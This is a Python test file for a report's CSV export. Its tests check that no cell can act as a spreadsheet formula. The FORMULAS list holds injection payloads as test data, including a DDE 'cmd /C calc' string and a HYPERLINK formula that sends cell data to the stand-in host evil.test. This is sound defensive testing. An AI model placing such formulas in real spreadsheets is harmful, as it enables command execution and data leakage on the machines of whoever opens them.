# SPDX-License-Identifier: Apache-2.0
"""CSV of a report: a spreadsheet shows what the page shows, and computes nothing."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jitd_evidence.report.sheet import BOM, sheet
from tests.evidence.test_report_page import HOSTILE

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.test/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "\uff201",
    '","=1+1',
    "\n=1+1",
]


def report(*row: Any) -> dict[str, Any]:
    figure = {"columns": [f"column {n}" for n, _ in enumerate(row)], "rows": [list(row), ["other"] * len(row)]}
    return {"host": "db1.example.test", "sections": [{"figures": [figure]}]}


def cells(*row: Any) -> list[str]:
    """The cells of a row, as a program reads them."""
    content = sheet(report(*row))
    assert content.startswith(b"\xef\xbb\xbf") and content.endswith(b"\r\n")
    head, first, other = csv.reader(io.StringIO(content.decode("utf-8").removeprefix(BOM), newline=""), strict=True)
    assert head == ["host", *(f"column {n}" for n, _ in enumerate(row))] and other == ["db1.example.test", *["other"] * len(row)]
    assert first[0] == "db1.example.test" and len(first) == len(head)
    return first[1:]


def is_formula(cell: str) -> bool:
    return cell.strip()[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")


@pytest.mark.parametrize("text", [*FORMULAS, *HOSTILE], ids=lambda text: ascii(text[:20]))
def test_no_cell_is_a_formula_and_each_is_one_line(text: str) -> None:
    """THREATS L-35: whoever chose the text: as a name, as a reason, as a command."""
    for cell in cells(text, {"typed": text}, {"command": text}):
        assert not is_formula(cell) and cell.isprintable()


@given(st.text())
def test_whatever_the_text_is_no_cell_is_a_formula(text: str) -> None:
    """THREATS L-35."""
    assert not any(is_formula(cell) for cell in cells(text, {"typed": text}, {"command": text}))


def test_what_is_no_formula_stands_as_it_is() -> None:
    assert cells("alice@EXAMPLE.TEST", 7, None, "", 1.5) == ["alice@EXAMPLE.TEST", "7", "", "", "1.5"]
    assert cells({"typed": "disk, full; é"}, {"command": "df -h 'a b'"}) == ['"disk, full; é"', "df -h 'a b'"]


def test_a_text_that_somebody_typed_is_not_the_word_of_jitd() -> None:
    assert cells("done", {"typed": "done"}) == ["done", '"done"']


def test_a_number_is_a_number_for_a_spreadsheet_and_a_text_is_none() -> None:
    assert sheet(report(-7, "1e3", "-7")).splitlines()[1] == b'"db1.example.test",-7,"1e3","\'-7"'
